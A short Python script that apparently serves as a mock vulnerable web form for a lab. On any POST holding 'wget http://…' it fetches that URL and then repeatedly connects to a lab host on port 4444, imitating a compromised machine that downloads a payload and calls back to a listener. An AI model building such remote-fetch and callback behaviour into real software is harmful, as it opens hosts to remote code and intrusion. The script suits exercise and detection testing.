"""A form whose server does what it is told: for "wget URL" it fetches that, and connects to the visitor so often, every five seconds.

  form.py TIMES
"""
import http.server, re, socket, sys, threading, time, urllib.request


def run(command):
    url = re.search(r"wget (http://[0-9.]+:\d+/\S+)", command)
    if not url: return
    time.sleep(1)
    urllib.request.build_opener(urllib.request.ProxyHandler({})).open(url[1]).read()
    for call in range(int(sys.argv[1])):
        time.sleep(5 if call else 1)
        with socket.create_connection(("10.9.0.2", 4444)) as shell: shell.sendall(b"ready\n")


class Form(http.server.BaseHTTPRequestHandler):
    server_version, protocol_version = "form/1.0", "HTTP/1.1"

    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode()
        self.send_response(200)
        self.send_header("Content-Length", "0")
        self.end_headers()
        threading.Thread(target=run, args=(body,)).start()

    def log_message(self, *_): pass


http.server.ThreadingHTTPServer(("", 80), Form).serve_forever()
